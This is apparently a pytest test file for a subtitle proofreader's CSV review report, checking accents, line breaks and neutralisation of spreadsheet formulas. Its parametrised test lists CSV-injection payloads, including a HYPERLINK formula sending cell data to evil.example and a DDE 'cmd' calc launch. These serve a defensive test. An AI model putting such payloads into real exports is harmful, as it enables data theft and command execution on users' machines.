"""The review report as CSV: a spreadsheet reads every cue back, accents and line breaks
intact, and no cell can run as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from proofreader.subtitles.cue import Cue
from proofreader.subtitles.document import ProofreadDocument
from proofreader.subtitles.edits import SetNote
from proofreader.subtitles.report import COLUMNS, build_report, neutralise, write_report
from tests.subtitles.report_support import CREATED, reviewed_report


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == COLUMNS
        return list(reader)


def test_round_trips_through_the_csv_module_with_accents_and_a_bom(tmp_path) -> None:
    report, _ = reviewed_report()
    path = tmp_path / "review.csv"
    assert write_report(path, report) == "csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbfnumber,start,end,")
    rows = read_back(path)
    assert [r["number"] for r in rows] == ["1", "2", "3", "4", "5"]
    first = rows[0]
    assert (first["start"], first["end"]) == ("00:00:01,000", "00:00:03,000")
    assert first["original"] == "The black cat sleeps."
    assert first["machine"] == "El gato negro duerme."
    assert first["final"] == "El perro negro duerme."
    assert first["diff"] == "El [-gato-]{+perro+} negro duerme."
    assert first["changed"] == "text" and first["review_state"] == "unreviewed"
    assert rows[1]["final"] == "Hola, ¿cómo estás?" and rows[1]["diff"] == ""
    assert rows[1]["review_state"] == "reviewed"
    assert rows[1]["note"] == "Checked with the client: «tú» is right."
    assert rows[2]["review_state"] == "flagged" and rows[2]["note"] == "Ask: 13 or 30?"
    assert rows[2]["findings"].startswith("warning numbers: The number 13 of the original")
    assert rows[3]["changed"] == "timing"
    assert (rows[3]["start"], rows[3]["machine_start"]) == ("00:00:08,600", "00:00:08,500")
    added = rows[4]
    assert (added["changed"], added["machine"], added["machine_start"]) == ("added", "", "")
    assert added["findings"].startswith("error empty: ")


def test_line_breaks_and_quotes_inside_cells_survive(tmp_path) -> None:
    text = 'Él dijo: "¿Sí?",\nella: «No».'
    document = ProofreadDocument([Cue(0, 2000, text)], machine=[Cue(0, 2000, "Él dijo sí.")])
    path = tmp_path / "r.csv"
    write_report(path, build_report(document, title="t", created=CREATED))
    assert read_back(path)[0]["final"] == text


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formulas_are_neutralised_in_every_text_cell(tmp_path, hostile: str) -> None:
    document = ProofreadDocument(
        [Cue(0, 2000, hostile)],
        originals=[Cue(0, 2000, hostile)],
        machine=[Cue(0, 2000, hostile + " x")],
    )
    document.apply(SetNote(0, hostile))
    path = tmp_path / "r.csv"
    write_report(path, build_report(document, title="t", created=CREATED))
    row = read_back(path)[0]
    for column in ("original", "machine", "final", "diff", "note"):
        assert row[column].startswith("'"), column
        assert row[column][1:].startswith(hostile[:1]), column
    assert row["final"] == "'" + hostile


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Hola = hello") == "Hola = hello"
    assert neutralise("") == ""
    assert neutralise("- ¿Vienes?") == "'- ¿Vienes?"  # a dialogue dash too: safety first
    assert neutralise("=1") == "'=1"
